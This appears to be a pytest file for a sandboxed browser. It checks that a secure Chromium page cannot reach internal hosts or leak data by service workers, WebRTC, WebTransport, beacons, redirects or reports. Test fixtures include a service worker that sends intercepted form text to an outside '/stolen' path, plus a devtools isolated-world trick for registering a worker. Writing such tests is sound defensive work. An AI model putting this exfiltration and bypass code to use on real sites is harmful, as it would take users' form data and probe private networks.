"""A real Chromium on a page in TLS, which browsers let do more: workers that answer for the
network, pages loaded beforehand, reports, other ways to another server.

What is in TLS the gate reads as it reads the rest; and where Chromium has no network namespace,
nothing but its flags keeps what it does by itself from going past the gate.
"""

import asyncio
from collections.abc import AsyncGenerator
from typing import Any

import pytest

from tests.conftest import until
from web_browsing.browser.session import Session

from .web_pages import (
    SENDING,
    SILENT,
    TRUSTED_WAYS,
    UNSEEN,
    WAYS,
    everything,
    heading,
    report_only,
)
from .web_world import INSIDE, Web, answer, at, held_or_refused, opened_web, refused

pytestmark = [pytest.mark.anyio, pytest.mark.real]

RESTED_S = 1.5
"""After the last sign of life of a page, for whatever comes late."""


@pytest.fixture(scope="module", params=[True, False], ids=["namespace", "flags alone"])
async def opened(
    anyio_backend: str, tmp_path_factory: pytest.TempPathFactory, request: pytest.FixtureRequest
) -> AsyncGenerator[Web]:
    folder = tmp_path_factory.mktemp("web")
    async with opened_web(folder, secure=True, equipment={"namespace": request.param}) as web:
        # Whatever a browser asks beforehand (CORS) is allowed.
        web.site.otherwise = answer("anything")
        yield web


async def test_a_secure_page_loads_nothing_of_the_inside_by_any_way(web: Web) -> None:
    origins = [web.within(), web.within(INSIDE), web.within("[::1]"), web.elsewhere]
    ways = WAYS | TRUSTED_WAYS
    loud = {f"/{way}" for way in WAYS if way not in SILENT}
    page = answer(everything(*origins, ways=ways))
    async with at(web, page) as session:
        assert await session.page().evaluate("isSecureContext")
        await until(lambda: loud <= web.site.places(), within_s=30)
        await asyncio.sleep(RESTED_S)
        assert len(session.visitor.refusals) > 100
    assert web.inside.heard == (0, 0)
    assert web.site.sent() == []


async def test_what_the_headers_of_a_secure_page_name_of_the_inside_is_not_asked(web: Web) -> None:
    pictures = "<img src=/picture><link rel=stylesheet href=/none.css><script src=/1.js></script>"
    for path, origin in (("/a", web.within()), ("/b", web.within(INSIDE)), ("/c", web.elsewhere)):
        async with at(web, answer(pictures, **heading(origin)), path) as session:
            # What was announced is for the next time.
            await web.result("navigate", sessionId=session.id, url=f"{web.here}{path}")
            await web.result("navigate", sessionId=session.id, url=f"{web.here}/left")
            await asyncio.sleep(RESTED_S)
            if origin != web.elsewhere:
                assert f"{origin}/linked-image" in refused(session)
    assert "/linked-image" in web.site.places()
    assert web.inside.heard == (0, 0)
    assert web.site.sent() == []


async def test_no_way_of_sending_goes_unasked_from_a_secure_page(web: Web) -> None:
    web.site.pages["/rules"] = report_only(f"{web.elsewhere}/csp")
    web.site.pages["/307"] = answer(status=307, location=f"{web.elsewhere}/redirected")
    forms = enumerate(SENDING.items())
    page = "".join(form.format(u=f"{web.elsewhere}/{way}", n=n) for n, (way, form) in forms)
    async with at(web, f"{page}<script>fetch('/done')</script>") as session:
        await until(lambda: "/done" in web.site.places())
        # Workers and frames begin when the page has been read.
        later = {*UNSEEN, "redirected", "beacon-hide"}
        await until(
            lambda: (
                SENDING.keys() - later
                <= held_or_refused(session) | {each[1:] for each in web.site.places()}
            ),
            30,
        )
        await asyncio.sleep(RESTED_S)
        kept = held_or_refused(session)
        # To leave is the last moment to send something.
        await web.result("navigate", sessionId=session.id, url=f"{web.here}/left")
        await asyncio.sleep(RESTED_S)
        kept |= held_or_refused(session)
    assert web.site.sent() == []
    looked = [each for each in web.site.asked if each.place[1:] in SENDING]
    assert {each.method for each in looked} <= {"OPTIONS"}, looked
    assert not any(each.body for each in web.site.asked)
    seen = kept | {each.place[1:] for each in looked}
    assert SENDING.keys() - seen <= UNSEEN | {"redirected"}
    assert "307" in kept


RTC = """<title>rtc</title><script>(async () => {
    const port = %(inside)d, hear = what => fetch('/heard?' + encodeURIComponent(what));
    const servers = ['stun:127.0.0.1:', 'stun:localhost:', 'turn:127.0.0.1:', 'turns:127.0.0.1:']
        .map(each => ({urls: each + port, username: 'u', credential: 'c'}));
    servers.push({urls: `turn:127.0.0.1:${port}?transport=tcp`, username: 'u', credential: 'c'});
    servers.push({urls: `turn:inside.test:${port}?transport=tcp`, username: 'u', credential: 'c'});
    const one = new RTCPeerConnection({iceServers: servers});
    const two = new RTCPeerConnection();
    one.onicecandidate = each => each.candidate && hear(each.candidate.candidate);
    one.createDataChannel('x');
    await one.setLocalDescription(await one.createOffer());
    await two.setRemoteDescription(one.localDescription);
    await two.setLocalDescription(await two.createAnswer());
    await one.setRemoteDescription(two.localDescription);
    for (const way of ['udp', 'tcp']) {
        const more = way === 'tcp' ? ' tcptype passive' : '';
        for (const host of ['127.0.0.1', '127.0.0.2'])
            await one.addIceCandidate({sdpMid: '0', sdpMLineIndex: 0, candidate:
                `candidate:1 1 ${way} 2130706431 ${host} ${port} typ host${more}`}).catch(() => 0);
    }
    const hash = {algorithm: 'sha-256', value: new Uint8Array(32)};
    for (const one of [port, %(site)d]) {
        const way = new WebTransport(
            `https://127.0.0.1:${one}/`, {serverCertificateHashes: [hash]});
        way.ready.catch(() => fetch('/no-transport'));
        way.closed.catch(() => 0);
    }
    await new Promise(done => setTimeout(done, 3000));
    fetch('/done');
})()</script>"""


async def test_no_datagram_and_no_connection_goes_past_the_gate(web: Web) -> None:
    ports = {"inside": web.inside.port, "site": web.site.port}
    async with at(web, RTC % ports):
        await until(lambda: {"/no-transport", "/done"} <= web.site.places(), within_s=20)
    heard = [each.path for each in web.site.asked if each.place == "/heard"]
    assert not any("127.0.0.1" in each or "192.168" in each for each in heard), heard
    assert web.inside.heard == (0, 0)
    assert web.site.datagrams == []


WORKER = """
const inside = '%(inside)s', out = '%(elsewhere)s', open = {mode: 'no-cors'};
const send = way => fetch(out + way, {...open, method: 'POST', body: 'x'}).catch(() => 0);
const ask = way => fetch(out + way, {method: 'POST', body: 'x'}).catch(() => 0);
self.addEventListener('install', event => {
    self.skipWaiting();
    fetch(inside + '/worker-fetch', open).catch(() => 0);
    fetch(out + '/public', open);
    send('/sent-installing'); ask('/asked-installing');
    try { importScripts(inside + '/worker-import') } catch {}
    try { new WebSocket((inside + '/worker-socket').replace('http', 'ws')) } catch {}
    try { new WebSocket((out + '/socket').replace('http', 'ws')) } catch {}
});
self.addEventListener('activate', event => {
    event.waitUntil(clients.claim());
    registration.backgroundFetch?.fetch('x', [inside + '/background']).catch(() => 0);
    registration.sync?.register('later').catch(() => 0);
    setInterval(() => { fetch(out + '/alive', open).catch(() => 0) }, 100);
});
self.addEventListener('sync', () => ask('/synced'));
self.addEventListener('fetch', event => {
    const path = new URL(event.request.url).pathname;
    if (path === '/answered')
        event.respondWith(fetch(inside + '/for-a-page', open).catch(() => Response.error()));
    if (path === '/form')
        event.respondWith(event.request.text().then(
            text => fetch(out + '/stolen', {method: 'POST', body: text})));
});
"""

REGISTERING = """<title>x</title><body><script>(async () => {
    const here = [navigator.serviceWorker, '/worker.js'];
    const another = async (markup) => {
        const frame = document.createElement('iframe');
        Object.assign(frame, markup);
        document.body.append(frame);
        const soon = frame.contentWindow;
        await new Promise(done => setTimeout(done, 100));
        return [soon, frame.contentWindow];
    };
    const windows = [window, open('/empty'), open('about:blank'), ...await another({}),
        ...await another({src: '/empty'}), ...await another({srcdoc: 'x'}),
        ...await another({src: 'javascript:1'}), ...await another({src: 'about:blank#x'})];
    for (const each of windows.filter(each => each)) {
        try { await each.navigator.serviceWorker.register('/worker.js') } catch {}
        const way = each.ServiceWorkerContainer?.prototype.register;
        try { await way.call(...here) } catch {}
        try { await way.call(each.navigator.serviceWorker, '/worker.js') } catch {}
    }
    const found = await navigator.serviceWorker.getRegistrations();
    fetch('/found?' + found.length);
})()</script>"""


async def test_no_page_gets_a_service_worker(web: Web) -> None:
    web.site.pages["/empty"] = "<title>empty</title>"
    web.site.pages["/worker.js"] = answer("1", kind="text/javascript")
    async with at(web, REGISTERING) as session:
        await until(lambda: "/found" in web.site.places(), within_s=20)
        assert await session.page().evaluate("isSecureContext")
    assert "/found?0" in {each.path for each in web.site.asked}
    assert "/worker.js" not in web.site.places()


WITH_ONE = """<title>x</title><form method=post action=/form><input name=a value=typed></form>
<script>navigator.serviceWorker.oncontrollerchange = () => fetch('/answered')</script>"""


async def register_a_worker(session: Session) -> None:
    """As no page can: from a world beside the page's, where nobody forbade it."""
    page = session.page()
    devtools: Any = await page.context.new_cdp_session(page)
    tree = await devtools.send("Page.getFrameTree")
    frame = {"frameId": tree["frameTree"]["frame"]["id"]}
    world = await devtools.send("Page.createIsolatedWorld", frame)
    wanted = "navigator.serviceWorker.register('/worker.js').then(String, String)"
    got = await devtools.send(
        "Runtime.evaluate",
        {"expression": wanted, "awaitPromise": True, "contextId": world["executionContextId"]},
    )
    assert got["result"]["value"] == "[object ServiceWorkerRegistration]"


async def test_a_service_worker_would_be_no_way_round(web: Web) -> None:
    """It asks by the same way as its pages, is held like them, and ends with its session."""
    worker = WORKER % {"inside": web.within(), "elsewhere": web.elsewhere}
    web.site.pages["/worker.js"] = answer(worker, kind="text/javascript")
    async with at(web, WITH_ONE) as session:
        await register_a_worker(session)
        tried = {f"{web.within()}/{way}" for way in ("worker-fetch", "worker-import", "for-a-page")}
        await until(lambda: tried <= refused(session), within_s=20)
        await until(lambda: {"/public", "/alive"} <= web.site.places())
        await web.result("click", sessionId=session.id, selector="input")
        await web.result("pressKey", sessionId=session.id, key="Enter")
        await until(lambda: "stolen" in held_or_refused(session))
        await asyncio.sleep(RESTED_S)
        kept = {"sent-installing", "asked-installing", "stolen", "socket"}
        assert kept <= held_or_refused(session)
    asked = len(web.site.asked)
    await asyncio.sleep(RESTED_S)
    assert len(web.site.asked) == asked
    assert web.inside.heard == (0, 0)
    assert web.site.sent() == []


async def test_where_the_guard_is_off_the_same_secure_page_reaches_the_inside(
    tmp_path: Any,
) -> None:
    async with opened_web(tmp_path, secure=True, exempt=("127.0.0.1", INSIDE)) as web:
        wanted = {f"/{way}" for way in WAYS if way not in SILENT}
        page = answer(everything(web.within(), ways=WAYS | TRUSTED_WAYS))
        async with at(web, page):
            await until(lambda: wanted <= web.inside.places(), within_s=30)
